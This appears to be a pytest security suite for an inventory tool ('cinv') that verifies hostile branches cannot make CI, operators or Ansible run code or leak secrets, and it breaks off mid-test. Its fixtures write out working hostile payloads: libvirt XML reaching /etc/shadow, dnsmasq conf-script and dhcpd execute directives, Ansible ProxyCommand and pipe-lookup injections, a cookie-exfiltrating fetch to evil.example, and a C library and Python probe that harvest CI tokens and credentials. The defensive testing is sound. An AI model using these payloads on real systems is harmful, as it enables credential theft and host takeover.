"""Security round 3 (issue 22): nobody runs, loads or hands out what a branch wrote.

Every test is written as the attack: a branch `mr` carrying hostile files is committed in a
temporary inventory repository (tests/test_security.py's Site), then the command CI, an operator
or a colleague runs on it (`cinv check`, `cinv render`, `cinv import`, the shipped CI recipe,
Ansible through examples/ansible/cinv-inventory). Each asserts that `cinv check` names the
hostile value at path:line, that render refuses it (writing nothing), and, where the attack
reaches another program, that no program of the branch ran and nothing outside was read or
written. Test names start with the item's number in the issue; SECURITY.md names them.
"""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from checkers import require
from conftest import invoke
from test_security import SECRET, Site, make_site, refused_render


@pytest.fixture(name="site")
def hostile_site(inventory, tmp_path) -> Site:
    """tests/test_security.py's site: main with a hypervisor and a VM, rendered into build/,
    and a victim folder beside it; Site.branch commits a hostile branch."""
    return make_site(inventory, tmp_path)


# --- 4, 14. kept libvirt XML does not take over the hypervisor --------------------------------

EVIL_VM = """\
kind: virtual
parent: hv1.prod.example.com
interfaces:
  - name: eth0
    mac: '52:54:00:66:00:01'
    network: prod
    ipv4: 192.0.2.66
libvirt:
  disks:
    - {type: block, source: /dev/sda, target: vda}
  xml:
    - "<seclabel type='static' model='dac' relabel='no'><label>+0:+0</label></seclabel>"
    - "<bootloader>/usr/bin/pygrub</bootloader>"
    - "<bootloader_args>--kernel /boot/vmlinuz</bootloader_args>"
  devices:
    - "<interface type='ethernet'><script path='/tmp/own.sh'/></interface>"
    - "<serial type='file'><source path='/root/.ssh/authorized_keys'/></serial>"
    - "<filesystem type='mount'><source dir='/'/><target dir='host'/></filesystem>"
    - "<hostdev mode='subsystem' type='pci'><source><address bus='0x01' slot='0x00'/></source></hostdev>"
    - "<disk type='file' device='disk'><source file='/var/lib/libvirt/images/../../../../etc/shadow'/><target dev='vdb'/></disk>"
"""  # noqa: E501
EVIL_AT = {  # line -> what check names there
    10: "libvirt.disks[0].source: reaches /dev/sda on the hypervisor",
    12: "libvirt.xml[0]: <seclabel> other than a dynamic label that relabels lifts",
    13: "libvirt.xml[1]: <bootloader> names a program libvirtd runs on the hypervisor as root",
    14: "libvirt.xml[2]: <bootloader_args> names a program",
    16: "libvirt.devices[0]: <script> names a program libvirtd runs",
    17: "libvirt.devices[1]: <source path=...> reaches /root/.ssh/authorized_keys",
    18: "libvirt.devices[2]: <source dir=...> reaches / on the hypervisor",
    19: "libvirt.devices[3]: <hostdev type='pci'> hands a host device to the guest",
    20: "libvirt.devices[4]: <source file=...> '/var/lib/libvirt/images/../../../../etc/shadow' "
        "is not a plain absolute path",
}
EVIL_PATH = "hosts/evil.prod.example.com.yaml"
ALLOW_ALL = "/ programs seclabel hostdev"


def test_4_kept_libvirt_xml_cannot_take_over_the_hypervisor(site):
    site.branch({EVIL_PATH: EVIL_VM})
    errors = site.check_errors()
    for line, words in EVIL_AT.items():
        assert any(e.startswith(f"{EVIL_PATH}:{line}: {words}") for e in errors), (line, errors)
    assert len(errors) == len(EVIL_AT) + 1, errors  # and the summary line
    before = Site.state(site.root / "build")
    r = site.run("render")
    assert len(refused_render(r)) == len(EVIL_AT)
    assert Site.state(site.root / "build") == before
    # CI reading the branch by --ref sees the same
    site.main()
    assert site.check_errors("mr") == errors
    # the operator (not the branch) may allow what they trust; '..' stays refused
    r = site.run("--ref", "mr", "check", env={"CINV_LIBVIRT_ALLOW": ALLOW_ALL})
    assert r.code == 1 and [e for e in r.out.splitlines()[:-1] if ": warning: " not in e] == [
        f"{EVIL_PATH}:20: " + EVIL_AT[20] + " (no '..', '.' or '//')"], r
    r = site.run("--ref", "mr", "check", env={"CINV_LIBVIRT_ALLOW": "../etc"})
    assert r.code == 1 and r.err.startswith("cinv: CINV_LIBVIRT_ALLOW: '../etc' is neither"), r


def test_4_a_branch_cannot_widen_what_its_domains_reach(site):
    """libvirt.image_dir is branch data: it may not be / or a system folder, and cinv.yaml has
    no key that allows more (the allowance is the operator's environment only)."""
    text = (site.root / "cinv.yaml").read_text()
    block = "libvirt:\n  image_dir: /var/lib/libvirt/images\n"
    at = text.splitlines().index("libvirt:") + 2

    def settings(folder: str, extra: str = "") -> dict:
        return {"cinv.yaml": text.replace(block, f"libvirt:\n  image_dir: {folder}\n{extra}")}
    site.branch(settings("/", "  allow: [programs]\n"))
    errors = site.check_errors()
    assert f"cinv.yaml:{at}: libvirt.image_dir: / is or holds the system folder /bin; a " \
        "domain may reach everything inside libvirt.image_dir, so it must be a folder of its " \
        "own (default /var/lib/libvirt/images)" in errors, errors
    assert any(e.startswith(f"cinv.yaml:{at + 1}: libvirt.allow: unknown key") for e in errors)
    for folder in ("/etc", "/var/lib/libvirt", "/root/vms", "/var"):
        site.inv.git("checkout", "-q", "-f", "main")
        site.inv.git("branch", "-q", "-D", "mr")
        site.branch(settings(folder))
        assert any(e.startswith(f"cinv.yaml:{at}: libvirt.image_dir: {folder} is or holds the "
                                "system folder") for e in site.check_errors()), folder


def test_4_14_import_lists_what_a_domain_would_reach(site, tmp_path):
    """A foreign domain (a hostile server's `virsh dumpxml`, a file handed over) is data too:
    each element that runs a program, lifts confinement or reaches the host is listed at its
    file:line and not kept; the rest is imported, and the render defines in libvirt."""
    site.main()
    domain = tmp_path / "foreign.xml"
    domain.write_text("""\
<domain type='xen'>
  <name>foreign</name>
  <memory unit='KiB'>1048576</memory>
  <bootloader>/usr/bin/pygrub</bootloader>
  <bootloader_args>-q</bootloader_args>
  <os><type arch='x86_64'>xen</type><kernel>/root/vmlinuz</kernel></os>
  <seclabel type='none'/>
  <devices>
    <disk type='file' device='disk'><source file='/etc/shadow'/><target dev='xvda'/></disk>
    <disk type='file' device='disk'><source file='/var/lib/libvirt/images/ok.img'/><target dev='xvdb'/></disk>
    <interface type='ethernet'><script path='/tmp/x.sh'/><mac address='52:54:00:66:00:02'/></interface>
    <console type='file'><source path='/etc/cron.d/own'/></console>
    <graphics type='vnc' port='-1'/>
  </devices>
</domain>
""")  # noqa: E501
    r = site.run("import", "libvirt", domain)
    assert r.code == 0, r
    listed = {int(line.split(":")[1]): line for line in r.out.splitlines()
              if line.startswith(f"  {domain}:") and "not kept" in line}
    assert sorted(listed) == [4, 5, 6, 7, 9, 11, 12], r.out
    assert "<bootloader>: not kept: <bootloader> names a program" in listed[4]
    assert "reaches /root/vmlinuz on the hypervisor" in listed[6]
    assert "reaches /etc/shadow on the hypervisor" in listed[9]
    assert "<script> names a program" in listed[11]
    assert "reaches /etc/cron.d/own on the hypervisor" in listed[12]
    record = (site.root / "hosts" / "foreign.example.com.yaml").read_text()
    for word in ("bootloader", "shadow", "script", "cron", "vmlinuz", "seclabel"):
        assert word not in record, record
    assert "/var/lib/libvirt/images/ok.img" in record and "vnc" in record
    assert site.check_errors()[:-1] == []


# --- 12, 18, noted. a branch runs nothing on the Ansible controller ---------------------------

REPO = Path(__file__).resolve().parents[1]
WRAPPER = REPO / "examples" / "ansible" / "cinv-inventory"


def ansible(site: Site, tmp: Path, tool: str, *args, env: dict | None = None):
    """Ansible as the operator runs it on the controller: through the shipped dynamic inventory
    script (or a rendered file), nothing but loopback reachable."""
    full = {**os.environ, "ANSIBLE_LOCAL_TEMP": str(tmp / "ansible-tmp"),
            "ANSIBLE_HOME": str(tmp / "ansible-home"), "ANSIBLE_NOCOLOR": "1",
            "ANSIBLE_HOST_KEY_CHECKING": "False", "ANSIBLE_TIMEOUT": "5",
            "ANSIBLE_INVENTORY_UNPARSED_FAILED": "true",
            "CINV": shutil.which("cinv", path=str(Path(sys.executable).parent)) or "cinv",
            "CINV_INVENTORY": str(site.root), **(env or {})}
    return subprocess.run([require(tool), *map(str, args)], capture_output=True, text=True,
                          env=full, timeout=120, cwd=tmp)


def test_12_a_branch_runs_no_command_on_the_ansible_controller(site, tmp_path):
    marker = tmp_path / "proxy-ran"
    proxy = f"-o ProxyCommand=\"sh -c 'touch {marker}; exit 1'\""
    settings = (site.root / "cinv.yaml").read_text() + (
        "ansible:\n  vars:\n    ansible_ssh_common_args: " + json.dumps(proxy) + "\n"
        "    ansible_ssh_executable: /tmp/ssh\n"
        "  group_vars:\n    kind_virtual: {ansible_connection: local}\n")
    at = len((site.root / "cinv.yaml").read_text().splitlines())
    web = site.root / "hosts" / "web.prod.example.com.yaml"
    host = web.read_text() + "vars:\n  ansible_python_interpreter: /tmp/evil\n" \
        "  ansible_become_exe: /tmp/evil\n"
    web_at = len(web.read_text().splitlines())
    site.branch({"cinv.yaml": settings, "hosts/web.prod.example.com.yaml": host})
    errors = site.check_errors()
    why = "a connection, privilege or interpreter variable of Ansible chooses what the " \
        "operator's controller runs"
    for where, var in ((f"cinv.yaml:{at + 3}", "ansible.vars.ansible_ssh_common_args"),
                       (f"cinv.yaml:{at + 4}", "ansible.vars.ansible_ssh_executable"),
                       (f"cinv.yaml:{at + 6}",
                        "ansible.group_vars.kind_virtual.ansible_connection"),
                       (f"hosts/web.prod.example.com.yaml:{web_at + 2}",
                        "vars.ansible_python_interpreter"),
                       (f"hosts/web.prod.example.com.yaml:{web_at + 3}",
                        "vars.ansible_become_exe")):
        assert any(e.startswith(f"{where}: {var}: {why}") for e in errors), (where, errors)
    # the operator's controller, through the shipped dynamic inventory: nothing runs
    r = ansible(site, tmp_path, "ansible", "-i", WRAPPER, "all", "-m", "ping")
    assert r.returncode != 0 and not marker.exists(), r.stdout + r.stderr
    assert "ansible_ssh_common_args" in r.stderr  # the script's refusal reaches the operator
    assert ansible(site, tmp_path, "ansible-inventory", "-i", WRAPPER, "--list").returncode
    # the attack is real: an operator who allows these vars gets the ProxyCommand run
    allow = {"CINV_ANSIBLE_ALLOW": "ansible_ssh_common_args ansible_ssh_executable "
             "ansible_connection ansible_python_interpreter ansible_become_exe"}
    settings = settings.replace("    ansible_ssh_executable: /tmp/ssh\n", "").replace(
        "kind_virtual: {ansible_connection: local}", "kind_virtual: {}")
    (site.root / "cinv.yaml").write_text(settings)
    web.write_text(web.read_text().split("vars:\n")[0])
    r = ansible(site, tmp_path, "ansible", "-i", WRAPPER, "hv1.prod.example.com", "-m", "ping",
                env=allow)
    assert marker.exists(), r.stdout + r.stderr


def test_18_no_group_replaces_every_hosts_vars(site):
    text = (site.root / "cinv.yaml").read_text()
    site.branch({"cinv.yaml": text + "ansible:\n  group_vars:\n    _meta: {hostvars: {}}\n"})
    at = len(text.splitlines()) + 2
    assert f"cinv.yaml:{at}: ansible.group_vars: '_meta' is reserved by Ansible's " \
        "dynamic-inventory protocol (every host's vars); not a group name" in site.check_errors()
    r = site.run("export", "ansible", "--list")
    assert r.code == 1 and "_meta" in r.err, r


def test_noted_cinvs_own_free_text_is_never_templated_by_ansible(site, tmp_path):
    marker = tmp_path / "lookup-ran"
    payload = "{{ lookup('pipe', 'touch " + str(marker) + "') }}"
    site.branch()
    site.inv.ok("host", "set", "hv1", f"description={payload}", f"location={payload}")
    assert site.check_errors()[:-1] == []
    site.inv.ok("render", "ansible")
    # the operator's play prints the description (-e: their own choice to run it locally)
    for source in (WRAPPER, site.root / "build" / "ansible" / "inventory.yaml"):
        for var in ("cinv_description", "cinv_location"):
            r = ansible(site, tmp_path, "ansible", "-i", source, "hv1.prod.example.com", "-m",
                        "debug", "-a", f"msg={{{{ {var} }}}}", "-e", "ansible_connection=local")
            assert r.returncode == 0, r.stdout + r.stderr
            assert json.dumps(payload) in r.stdout, r.stdout
            assert not marker.exists(), (source, var)


# --- 1, 2. a branch's templates write nothing that loads code, runs a program or reads a file ---

BUILTIN = REPO / "templates"
LONG = "dhcp-option=tag:x,option:domain-search," + "a" * 990 + "\n"
HOSTILE_LINES = {  # template -> [(what a branch appends, the word check names)]
    "dnsmasq.conf.j2": [
        ('conf-script=/bin/sh -c "env > /tmp/leak"\n', "conf-script"),
        ("conf-file=/etc/shadow\n", "conf-file"),
        ("dhcp-script=/tmp/x.sh\n", "dhcp-script"),
        ("addn-hosts=/root/.ssh/id_rsa\n", "addn-hosts"),
        ('  "conf-script"=/bin/true\n', '"conf-script"'),  # dnsmasq drops quotes and blanks
        (LONG + "conf-dir=/etc\n", "dhcp-option"),  # a line dnsmasq would cut in two
        ("{{ 'conf-' ~ 'script' }}=/bin/true\n", None),  # built at render time
    ],
    "dhcpd.conf.j2": [
        ('include "/etc/shadow";\n', "include"),
        ('on commit { execute("/bin/sh", "-c", "id"); }\n', "on"),
        ('group { option host-name = execute("/bin/id"); }\n', "execute"),
        ("omapi-port 7911;\n", "omapi-port"),
        ('lease-file-name "/etc/cron.d/x";\n', "lease-file-name"),
    ],
    "kea-dhcp4.conf.j2": [
        (None, '"hooks-libraries"'),
        ('<?include "/etc/shadow"?>\n', "<?"),
        (None, '"control-socket"'),
        (None, '"loggers"'),
        (None, '"lease-database"'),
    ],
    "named.conf.zones.j2": [
        ('include "/etc/bind/rndc.key";\n', "include"),
        ('plugin query "/tmp/libx.so";\n', "plugin"),
        ('zone "evil.example.com" { type primary; file "/etc/shadow"; };\n', "/etc/shadow"),
        ('zone "evil.example.com" { type primary; database "dlopen /tmp/x.so"; };\n',
         "database"),
        ("options { directory \"/\"; };\n", "options"),
    ],
    "zone.j2": [
        ("$INCLUDE /etc/shadow\n", "$INCLUDE"),
        ("$GENERATE 1-4294967295 h$ A 192.0.2.1\n", "$GENERATE"),
    ],
}
KEA_EXTRA = {  # Kea's JSON: what a branch's template adds to Dhcp4
    '"hooks-libraries"': '"hooks-libraries": [{"library": "./libcustomer.so"}]',
    '"control-socket"': '"control-socket": {"socket-type": "unix", "socket-name": "/tmp/s"}',
    '"loggers"': '"loggers": [{"name": "kea-dhcp4", "output_options": '
                 '[{"output": "/root/.ssh/authorized_keys"}]}]',
    '"lease-database"': '"lease-database": {"type": "memfile", "name": "/etc/cron.d/x"}',
}
OUTPUT = {"dnsmasq.conf.j2": "dnsmasq/cinv.conf", "dhcpd.conf.j2": "dhcpd.conf",
          "kea-dhcp4.conf.j2": "kea-dhcp4.conf", "named.conf.zones.j2": "dns/named.conf.zones",
          "zone.j2": "dns/"}


def hostile_template(template: str, line: str | None, word: str) -> tuple[str, int | None]:
    """(the template's text, the line check must name) for a branch's override that adds line
    to cinv's own template (Kea: a key into its JSON)."""
    text = (BUILTIN / template).read_text()
    if template.startswith("kea"):
        if line is None:
            return ('{% set kea = inv.kea4 %}{"Dhcp4": {' + KEA_EXTRA[word] + ', "subnet4": '
                    '{{ kea.Dhcp4.subnet4 | to_json }}}}\n'), 1
        return line + text, 1
    if word is None:
        return text + line, None
    return text + line, len(text.splitlines()) + 1


CASES_1_2 = [(t, line, word) for t, items in HOSTILE_LINES.items() for line, word in items]


@pytest.mark.parametrize("template,line,word", CASES_1_2,
                         ids=[f"{t.split('.')[0]}-{w or 'built'}" for t, _l, w in CASES_1_2])
def test_1_2_a_branch_template_writes_no_directive_that_runs_loads_or_reads(site, template,
                                                                            line, word):
    text, at = hostile_template(template, line, word)
    site.branch({f"templates/{template}": text})
    errors = site.check_errors()
    where = f"templates/{template}:{at}: " if at else f"templates/{template}: "
    mine = [e for e in errors if e.startswith(where)]
    assert len(mine) == 1, (where, errors)
    assert OUTPUT[template] in mine[0], mine
    if word and word.strip('"') not in ("dhcp-option", "<?", "on"):
        assert word.strip('"') in mine[0], mine
    before = Site.state(site.root / "build")
    r = site.run("render")
    assert r.code == 1 and r.err.strip() == "cinv: " + mine[0].replace(": error", ""), r
    assert Site.state(site.root / "build") == before  # nothing written, nothing removed
    # CI reads the branch by --ref into a fresh folder: refused, and nothing is left there
    site.main()
    out = site.tmp / "ci-out"
    r = site.run("--ref", "mr", "render", "--out", out)
    assert r.code == 1 and not (out.exists() and any(out.iterdir())), r
    # and a reviewer's `diff --render` of the branch refuses it too
    r = site.run("diff", "--render", "main", "mr")
    assert r.code == 1 and mine[0].split(": ", 1)[1] in r.err, r


def test_1_2_user_targets_and_replaced_builtins_are_held_to_the_same_rules(site):
    """The rule goes by the file written, whatever target wrote it: a user target writing
    dnsmasq/more.conf, one replacing the built-in kea target."""
    text = (site.root / "cinv.yaml").read_text()
    settings = text.replace("  targets: {}\n", "  targets:\n"
                            "    extra: {template: extra.j2, path: dnsmasq/more.conf}\n"
                            "    kea: {template: mykea.j2, path: kea-dhcp4.conf}\n")
    assert settings != text
    site.branch({"cinv.yaml": settings, "templates/extra.j2": "dhcp-script=/tmp/x\n",
                 "templates/mykea.j2": '{"Dhcp4": {"hooks-libraries": []}}\n'})
    errors = site.check_errors()
    assert any(e.startswith("templates/extra.j2:1: dnsmasq/more.conf:1: dnsmasq option "
                            "dhcp-script") for e in errors), errors
    assert any(e.startswith("templates/mykea.j2:1: kea-dhcp4.conf:1: Kea's 'hooks-libraries'")
               for e in errors), errors


def test_1_2_cinvs_own_output_passes_the_rules(tmp_path):
    """cinv's own templates, copied into an inventory's templates/ as a branch would to start
    an override, render the rich inventory (every feature of every built-in target) through the
    rules, to the same bytes as cinv's own render: the allow-lists hold what cinv writes."""
    from richinv import rich_inventory
    root = rich_inventory(tmp_path / "inv", generated=60)
    r = invoke("-C", root, "render", "--out", tmp_path / "own")
    assert r.code == 0, r
    for template in BUILTIN.glob("*.j2"):
        if not template.name.startswith("report"):
            shutil.copy(template, root / "templates" / template.name) if (
                root / "templates").is_dir() else (
                (root / "templates").mkdir(), shutil.copy(template, root / "templates"))
    r = invoke("-C", root, "render", "--out", tmp_path / "copied")
    assert r.code == 0, r
    own, copied = Site.state(tmp_path / "own"), Site.state(tmp_path / "copied")
    assert {k for k in own if k.startswith(("dnsmasq", "dhcpd", "kea", "dns/", "libvirt/",
                                            "ansible"))} <= set(copied)
    for rel in own:
        if not rel.startswith((".cinv", "report")):
            assert own[rel] == copied[rel], rel


@pytest.mark.parametrize("template,old,new,word,output", [
    ("libvirt-domain.xml.j2", "  </devices>",
     "    <interface type='ethernet'><script path='/tmp/own.sh'/></interface>\n  </devices>",
     "<script", "libvirt/web.prod.example.com.xml"),
    ("libvirt-domain.xml.j2", "  </devices>",
     "    <qemu:commandline xmlns:qemu='http://libvirt.org/schemas/domain/qemu/1.0'>"
     "<qemu:arg value='-evil'/></qemu:commandline>\n  </devices>",
     "<qemu:commandline", "libvirt/web.prod.example.com.xml"),
    ("ansible-inventory.yaml.j2", "  hosts:\n",
     '  hosts:\n    "x.example.com": {"ansible_ssh_common_args": "-o ProxyCommand=id"}\n',
     "ansible_ssh_common_args", "ansible/inventory.yaml"),
    ("ansible-inventory.yaml.j2", "  hosts:\n",
     "  hosts:\n    \"x.example.com\": {motd: \"{{ '{{' }} lookup('pipe', 'id') }}\"}\n",
     "motd", "ansible/inventory.yaml"),
    ("ansible-inventory.yaml.j2", "all:\n",  # a second `vars:` (readers differ in which wins)
     "all:\n  vars: {ansible_connection: local}\n", "vars:", "ansible/inventory.yaml"),
], ids=["libvirt-script", "libvirt-qemu-commandline", "ansible-connection-var",
        "ansible-template", "ansible-repeated-key"])
def test_1_2_domain_and_ansible_templates_hand_over_nothing_that_runs(site, template, old, new,
                                                                     word, output):
    text = (BUILTIN / template).read_text()
    assert old in text
    text = text.replace(old, new, 1)
    at = next(n for n, line in enumerate(text.splitlines(), 1) if word in line)
    site.branch({f"templates/{template}": text})
    errors = site.check_errors()
    assert any(e.startswith(f"templates/{template}:{at}: {output}:") for e in errors), errors
    r = site.run("render")
    assert r.code == 1 and f"templates/{template}:{at}: {output}:" in r.err, r


# --- 7. the report's script and policy are cinv's ----------------------------------------------

@pytest.mark.parametrize("files,at", [
    ({"templates/report.js.j2": "fetch('https://evil.example/?' + document.cookie);\n"},
     "templates/report.js.j2"),
    ({"templates/report.html.j2": "<html><script>alert(1)</script></html>\n"},
     "templates/report.html.j2"),
    ({"templates/mine.j2": "<script>alert(1)</script>\n",
      "cinv.yaml": "REPORT_TARGET"}, "templates/mine.j2"),
], ids=["script", "page", "target"])
def test_7_the_reports_script_and_policy_come_from_cinv_only(site, files, at):
    if files.get("cinv.yaml") == "REPORT_TARGET":
        text = (site.root / "cinv.yaml").read_text()
        files["cinv.yaml"] = text.replace("  targets: {}\n", "  targets:\n    report: "
                                          "{template: mine.j2, path: report/index.html}\n")
    page = (site.root / "build" / "report" / "index.html").read_bytes()
    site.branch(files)
    want = f"{at}: the report page, its script and its Content-Security-Policy come from cinv " \
        "only; an inventory may not supply them"
    assert any(e.startswith(want) for e in site.check_errors()), site.check_errors()
    for args in (("render",), ("render", "report"), ("render", "--check")):
        r = site.run(*args)
        assert r.code == 1 and want in r.err, (args, r)
    assert (site.root / "build" / "report" / "index.html").read_bytes() == page
    site.main()
    r = site.run("--ref", "mr", "render", "--out", site.tmp / "ci-out")
    assert r.code == 1 and want in r.err, r
    assert not (site.tmp / "ci-out" / "report").exists()


# --- 3. the domains a branch may claim are pinned by its merge target ------------------------

def test_3_a_branch_cannot_grant_itself_a_domain(site):
    web = site.root / "hosts" / "web.prod.example.com.yaml"
    host = web.read_text().replace("  network: prod\n",
                                   "  network: prod\n  aliases: [pypi.org]\n", 1)
    assert host != web.read_text()
    site.branch({"zones/pypi.org.yaml": 'records:\n  www: [{type: TXT, value: "mine"}]\n',
                 "hosts/web.prod.example.com.yaml": host})
    # on its own the branch looks fine: it manages pypi.org itself
    assert site.check_errors()[:-1] == []
    r = site.run("check", "--base", "main")
    assert r.code == 1, r
    assert "zones/pypi.org.yaml:1: zone: pypi.org lies under no domain that main manages " \
        "(example.com, mgmt.example.com, prod.example.com); a branch may not claim a domain " \
        "of its own: add it on main first" in r.out.splitlines(), r.out
    # CI reads the branch by --ref and the base by name: the same
    site.main()
    r = site.run("--ref", "mr", "check", "--base", "main")
    assert r.code == 1 and "zones/pypi.org.yaml:1: zone: pypi.org lies under no" in r.out, r
    # a domain the base manages, and below it, is the branch's to use
    r = site.run("check", "--base", "mr")
    assert r.code == 0, r


def test_3_a_public_top_level_domain_is_always_an_error(site):
    net = (site.root / "networks" / "prod.yaml").read_text()
    assert "domain: prod.example.com" in net
    site.branch({"networks/prod.yaml": net.replace("domain: prod.example.com", "domain: com"),
                 "zones/org.yaml": "records: {}\n"})
    errors = site.check_errors()
    line = net.splitlines().index("domain: prod.example.com") + 1
    assert any(e.startswith(f"networks/prod.yaml:{line}: domain: com is a public suffix")
               for e in errors), errors
    assert any(e.startswith("zones/org.yaml:1: zone: org is a public suffix")
               for e in errors), errors
    r = site.run("render")
    assert r.code == 1, r


# --- 1, 2 in CI: the shipped recipe hands the checkers nothing to run, and no secret ----------

RECIPE = REPO / "examples" / "ci" / "cinv-ci.sh"
CI_VARS = ("CI_COMMIT_REF_SLUG", "GITHUB_REF_NAME", "GITHUB_OUTPUT", "CINV_INVENTORY",
           "CINV_OUT", "CINV_BRANCH", "CINV_INSTALL", "CINV_PIP_SPEC", "CINV_VENV",
           "CINV_ALLOW_MISSING_CHECKERS", "CINV_DIFF_BASE", "CI_MERGE_REQUEST_TARGET_BRANCH_NAME",
           "GITHUB_BASE_REF", "CI_DEFAULT_BRANCH", "GITHUB_STEP_SUMMARY",
           "CINV_CHECKER_SANDBOX")
LIBRARY = r"""
#include <stdio.h>
#include <stdlib.h>
__attribute__((constructor)) static void own(void) {
    const char *token = getenv("CI_JOB_TOKEN");
    FILE *f = fopen("%MARKER%", "w");
    if (f) { fprintf(f, "loaded, token=%s\n", token ? token : "(none)"); fclose(f); }
}
"""


def recipe(site: Site, out: Path, bin_dir: Path | None = None, **env):
    """The recipe as CI runs it on a merge request, with the job's token in its environment."""
    full = {k: v for k, v in os.environ.items() if k not in CI_VARS}
    cinv = Path(shutil.which("cinv", path=str(Path(sys.executable).parent)) or "cinv").parent
    full["PATH"] = os.pathsep.join([str(p) for p in (bin_dir, cinv) if p] + [full["PATH"]])
    full.update({"CINV_OUT": str(out), "CINV_INSTALL": "never", "CI_JOB_TOKEN": SECRET,
                 "HOME": str(site.tmp / "home"), **env})
    (site.tmp / "home").mkdir(exist_ok=True)
    (site.tmp / "home" / ".git-credentials").write_text(f"https://ci:{SECRET}@git.example\n")
    return subprocess.run(["bash", str(RECIPE)], cwd=site.root, env=full, capture_output=True,
                          text=True, timeout=600)


def build_library(site: Site, marker: Path) -> bytes:
    source = site.tmp / "lib.c"
    source.write_text(LIBRARY.replace("%MARKER%", str(marker)))
    target = site.tmp / "libcustomer.so"
    subprocess.run([require("gcc"), "-shared", "-fPIC", "-o", str(target), str(source)],
                   check=True)
    return target.read_bytes()


def test_1_2_the_ci_recipe_runs_no_program_and_loads_no_library_of_a_branch(site):
    """The attack of the issue, end to end: a branch commits a dnsmasq template with a
    conf-script that writes the job's environment out, and a Kea template loading a .so it
    commits too; CI runs the shipped recipe on it with a token in its environment."""
    leak, marker = site.victim / "leak", site.victim / "loaded"
    dnsmasq = (BUILTIN / "dnsmasq.conf.j2").read_text() + \
        f'conf-script=/bin/sh -c "env > {leak}"\n'
    kea = ('{% set kea = inv.kea4 %}{"Dhcp4": {"hooks-libraries": [{"library": '
           '"./libcustomer.so"}], "subnet4": {{ kea.Dhcp4.subnet4 | to_json }}}}\n')
    site.branch({"templates/dnsmasq.conf.j2": dnsmasq, "templates/kea-dhcp4.conf.j2": kea})
    (site.root / "libcustomer.so").write_bytes(build_library(site, marker))
    site.inv.git("add", "libcustomer.so")
    site.inv.git("commit", "-q", "-m", "Our own Kea hooks")
    r = recipe(site, site.tmp / "published", CI_MERGE_REQUEST_TARGET_BRANCH_NAME="main")
    assert r.returncode == 1, r.stdout + r.stderr
    assert r.stderr.strip().splitlines()[-1] == \
        "cinv-ci: FAILED: cinv check found problems in the inventory (listed above)"
    at = len((BUILTIN / "dnsmasq.conf.j2").read_text().splitlines()) + 1
    assert f"templates/dnsmasq.conf.j2:{at}: dnsmasq/cinv.conf:" in r.stdout, r.stdout
    assert "conf-script" in r.stdout and "templates/kea-dhcp4.conf.j2:1: kea-dhcp4.conf:1: " \
        "Kea's 'hooks-libraries'" in r.stdout, r.stdout
    assert not leak.exists() and not marker.exists()  # nothing of the branch ran or loaded
    assert SECRET not in r.stdout + r.stderr
    site.assert_victim_untouched()
    published = site.tmp / "published"
    assert not any(p.is_file() for p in published.rglob("*")), list(published.rglob("*"))


FAKE_CINV = """#!/bin/bash
# cinv as it is, but for `render`: the files a checker might still be surprised by, as if
# cinv's rules had let them through
if [[ " $* " == *" render "* ]]; then
  while [ $# -gt 0 ]; do [ "$1" = --out ] && out=$2; shift; done
  cp -r "%FILES%"/. "$out"/
  exit 0
fi
exec "%CINV%" "$@"
"""
PROBE = """import glob, os, socket, sys
secret, found = %SECRET%, []
for name in glob.glob("/proc/*/environ") + [%FILES%]:
    try:
        if secret.encode() in open(name, "rb").read():
            found.append(name)
    except OSError:
        pass
if secret in repr(dict(os.environ)):
    found.append("own environment")
for name in (%VICTIM% + "/leak", %INV% + "/leak"):
    try:
        open(name, "w").write(repr(found))
    except OSError:
        pass
try:
    socket.create_connection(("127.0.0.1", %PORT%), timeout=2).sendall(repr(found).encode())
except OSError:
    pass
print("domain=example.com")
"""


@pytest.mark.parametrize("sandbox", ["bwrap", "none"])
def test_1_2_a_checker_the_rules_miss_holds_no_secret_in_the_recipe(site, sandbox):
    """Beyond cinv's rules: were a file with a conf-script, a hooks library and an include
    of a secret file to reach the checkers anyway (a fake `cinv render` writes them), the
    recipe's sandbox leaves them no token, no credentials, no network and nowhere to write.
    The run without the sandbox (CINV_CHECKER_SANDBOX=none: an empty environment only) shows
    the probe working: it finds the token in the job's processes and writes it out."""
    import socket
    site.branch()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.5)
    marker = site.victim / "loaded"
    files = site.tmp / "hostile"
    (files / "dnsmasq").mkdir(parents=True)
    (files / "dns").mkdir()
    build_library(site, marker)
    shutil.copy(site.tmp / "libcustomer.so", site.root / "libcustomer.so")  # on the branch
    probe = PROBE.replace("%SECRET%", repr(SECRET)).replace("%PORT%", str(
        listener.getsockname()[1])).replace("%VICTIM%", repr(str(site.victim))).replace(
        "%INV%", repr(str(site.root))).replace("%FILES%", ", ".join(repr(str(p)) for p in (
            site.root / ".git" / "config", site.tmp / "home" / ".git-credentials")))
    (files / "probe.py").write_text(probe)
    out = site.tmp / "published" / "mr"
    (files / "dnsmasq" / "cinv.conf").write_text(
        f"conf-script=/usr/bin/python3 {out}/probe.py\n")
    (files / "kea-dhcp4.conf").write_text(json.dumps({"Dhcp4": {"hooks-libraries": [
        {"library": str(site.root / "libcustomer.so")}]}}))
    (files / "dns" / "named.conf.zones").write_text(
        f'include "{site.victim}/secret.txt";\n'
        'zone "example.com" {\n\ttype primary;\n\tfile "db.example.com";\n};\n')
    (files / "dns" / "db.example.com").write_text(
        "$TTL 60\n@ IN SOA ns1.example.net. h.example.com. 1 60 60 60 60\n"
        "@ IN NS ns1.example.net.\n")
    bin_dir = site.tmp / "bin"
    bin_dir.mkdir()
    fake = bin_dir / "cinv"
    fake.write_text(FAKE_CINV.replace("%FILES%", str(files)).replace(
        "%CINV%", shutil.which("cinv", path=str(Path(sys.executable).parent))))
    fake.chmod(0o755)
    # the job's checkout holds its credentials, as actions/checkout leaves them
    site.inv.git("config", "http.https://git.example/.extraheader",
                 f"AUTHORIZATION: basic {SECRET}")
    r = recipe(site, site.tmp / "published", bin_dir, CINV_CHECKER_SANDBOX=sandbox,
               CINV_ALLOW_MISSING_CHECKERS="1")
    log = r.stdout + r.stderr
    assert r.returncode == 1 and "refused: kea-dhcp4 -t" in log, log
    connections = []
    try:
        while True:
            conn, _addr = listener.accept()
            connections.append(conn.recv(4096))
    except OSError:
        pass
    listener.close()
    if sandbox == "none":  # the probe works: without namespaces it finds the token in the
        # job's processes, its checkout and $HOME, and writes outside; Kea loads the library;
        # named's include puts the secret file into the log
        found = (site.victim / "leak").read_text()
